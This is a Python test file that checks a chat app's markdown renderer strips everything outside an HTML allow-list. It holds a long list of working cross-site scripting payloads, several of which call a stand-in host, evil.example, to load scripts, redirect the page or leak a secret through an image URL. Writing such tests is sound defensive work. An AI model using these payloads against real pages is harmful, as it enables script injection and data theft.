"""Whatever a model writes, only the allow-list of tags and attributes reaches a page."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from chat.rendering import (
    ALLOWED_ATTRIBUTES,
    ALLOWED_TAGS,
    LINK_REL,
    MAX_MARKDOWN_CHARACTERS,
    render_markdown,
)

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'>",
    "<embed src=//evil.example>",
    "<form action=//evil.example><input name=password>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=x onclick=alert(1)>x</a>",
    "<div hx-get='/api/auth/me' hx-trigger='load'>x</div>",
    "<div data-hx-post='/chat/new/' data-hx-trigger='load'>x</div>",
    "<div id='composer' hx-swap-oob='true'>x</div>",
    "<div ws-connect='/ws/chat/x'>x</div>",
    "<meta http-equiv='refresh' content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example>",
    "<style>*{display:none}</style>",
    "<base href='//evil.example/'>",
    "<template><script>alert(1)</script></template>",
    "<textarea><script>alert(1)</script></textarea>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://a/b)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    '[x](https://a.example "onmouseover=alert(1)")',
    "[x](https://a.example '\"><script>alert(1)</script>')",
    "![x](https://evil.example/pixel.png)",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "![x][y]\n\n[y]: javascript:alert(1)",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    '```x" onload="alert(1)\nx\n```',
    "    <script>alert(1)</script>",
    "# <img src=x onerror=alert(1)>",
    "| <script>alert(1)</script> | b |\n|:-:|--:|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
    "> - 1. <svg onload=alert(1)>",
    "**<b onclick=alert(1)>x</b>**",
    "a\x00<script>alert(1)</script>",
    "\u2028<script>alert(1)</script>\u2029",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "</div></div><script>alert(1)</script>",
    "\ufeff<script>alert(1)</script>",
    "~~<del onclick=alert(1)>~~",
]
FRAGMENTS = st.sampled_from(
    [
        *ATTACKS,
        "**",
        "_",
        "`",
        "```\n",
        "\n",
        "\n\n",
        "> ",
        "- ",
        "1. ",
        "# ",
        "|",
        "[",
        "](",
        ")",
        "<",
        ">",
        '"',
        "'",
        "\\",
    ]
)


class _Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.declarations: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))

    def handle_decl(self, decl: str) -> None:
        self.declarations.append(decl)

    def handle_pi(self, data: str) -> None:
        self.declarations.append(data)

    def handle_comment(self, data: str) -> None:
        self.declarations.append(data)


def assert_only_allowed(html: str) -> None:
    collector = _Collector()
    collector.feed(html)
    (tag, attributes), *inner = collector.elements
    assert tag == "div"
    assert "hx-disable" in attributes
    assert not collector.declarations
    for tag, attributes in inner:
        assert tag in ALLOWED_TAGS, html
        allowed = ALLOWED_ATTRIBUTES.get(tag, set()) | ({"rel"} if tag == "a" else set())
        assert set(attributes) <= allowed, html
        if tag == "a":
            assert attributes["rel"] == LINK_REL
            assert not re.match(
                r"(?i)\s*(javascript|data|vbscript|file|blob):", attributes.get("href") or ""
            )


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_leaves_nothing_outside_the_allow_list(attack: str) -> None:
    assert_only_allowed(render_markdown(attack))


@given(st.lists(st.one_of(FRAGMENTS, st.text(max_size=12)), max_size=12).map("".join))
@settings(max_examples=150, deadline=None)
def test_no_mixture_of_attacks_and_markup_gets_through(text: str) -> None:
    assert_only_allowed(render_markdown(text))


def test_markdown_becomes_structure() -> None:
    html = render_markdown(
        "# Title\n\nFirst\nsecond **bold** `code`\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |"
    )
    for expected in (
        "<h4>Title</h4>",
        "First<br>",
        "<strong>bold</strong>",
        "<code>code</code>",
        "<li>one</li>",
        "<td>1</td>",
    ):
        assert expected in html


def test_headings_stay_below_the_heading_of_their_reply() -> None:
    html = render_markdown("# a\n\n## b\n\n### c\n\n###### d")
    assert re.findall(r"<(h\d)>", html) == ["h4", "h5", "h6", "h6"]


def test_a_link_opens_without_handing_over_this_page() -> None:
    html = render_markdown("[a](https://example.org/x)")
    assert f'<a href="https://example.org/x" rel="{LINK_REL}">a</a>' in html


def test_an_image_is_never_fetched() -> None:
    assert "<img" not in render_markdown("![secret](https://evil.example/?q=secret)")


def test_a_text_too_long_to_parse_is_shown_as_it_is() -> None:
    html = render_markdown("[" * (MAX_MARKDOWN_CHARACTERS + 1) + "<b>")
    assert "&lt;b&gt;" in html
    assert_only_allowed(html)
